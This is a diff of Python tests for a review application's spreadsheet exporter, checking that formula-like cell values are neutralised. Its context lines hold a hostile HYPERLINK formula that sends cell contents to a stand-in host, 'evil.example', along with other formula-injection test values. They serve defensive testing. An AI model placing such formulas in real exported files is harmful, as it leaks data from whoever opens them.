@@ -22,6 +22,7 @@ from review.exporters.cells import formula_like, neutralise
 from review.exporters.columns import COLUMNS, NAMES
 from review.exporters.delimited import datapackage
 from review.exporters.rows import export_rows
+from tests.review.conftest import reconcile
 from tests.review.test_app import login
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -54,7 +55,7 @@ def test_the_rule(text, written):
 def hostile_row(text: str) -> dict:
     """An export row whose every text column holds ``text``, with negative numbers."""
     row: dict = {name: text for name in TEXT_COLUMNS}
-    row.update(claim_id=7, value=-3, machine_value=-4)
+    row.update(claim_id=7, value=-3, machine_value=-4, total_claim_id=None)
     return row
 
 
@@ -115,6 +116,7 @@ def hostile_claims(build, session):
         {"subject": "-presos+", "place": "=Caracas", "as_of": "2024-07"},
         note="=note",
     )
+    reconcile(session)
     session.commit()
     return claim
 
